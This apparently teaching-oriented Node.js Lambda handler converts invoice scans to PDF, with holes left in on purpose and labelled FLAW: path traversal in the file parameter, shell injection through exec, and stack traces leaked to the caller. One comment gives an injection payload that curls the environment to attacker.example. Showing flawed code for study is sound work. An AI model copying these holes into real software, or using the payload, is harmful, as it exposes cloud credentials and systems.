'use strict';
// GET /invoices/report?file=<name>: converts a stored invoice scan to PDF with ImageMagick and
// stores the PDF next to it.
const child_process = require('child_process');
const { mkdtemp, readFile, writeFile } = require('node:fs/promises');
const { tmpdir } = require('node:os');
const path = require('node:path');
const { S3Client, GetObjectCommand, PutObjectCommand } = require('@aws-sdk/client-s3');

const s3 = new S3Client({});
const bucket = process.env.UPLOAD_BUCKET;

exports.handler = async (event) => {
  try {
    const workDir = await mkdtemp(path.join(tmpdir(), 'report-'));
    const scan = await s3.send(new GetObjectCommand({
      Bucket: bucket,
      Key: `invoices/${event.queryStringParameters.file}`,
    }));
    // FLAW: the file name from the query string becomes a path; `../` segments write outside
    // the working folder, over files that later invocations of the warm container read.
    await writeFile(path.join(workDir, event.queryStringParameters.file), await scan.Body.transformToByteArray());

    await new Promise((resolve, reject) => {
      // FLAW: the query string goes straight into a shell command line.
      // `?file=a.png;curl -d "$(env)" https://attacker.example` runs the attacker's command with
      // the function's credentials in its environment.
      child_process.exec('convert ' + event.queryStringParameters.file + ' out.pdf', { cwd: workDir }, (error) =>
        error ? reject(error) : resolve(),
      );
    });

    const reportKey = `reports/${path.parse(event.queryStringParameters.file).name}.pdf`;
    await s3.send(new PutObjectCommand({
      Bucket: bucket,
      Key: reportKey,
      Body: await readFile(path.join(workDir, 'out.pdf')),
      ContentType: 'application/pdf',
    }));
    return { statusCode: 200, body: JSON.stringify({ report: reportKey }) };
  } catch (err) {
    // FLAW: the stack trace (file paths, library versions, sometimes the failing command line)
    // goes back to whoever made the request.
    return { statusCode: 500, body: JSON.stringify({ message: err.message, stack: err.stack }) };
  }
};
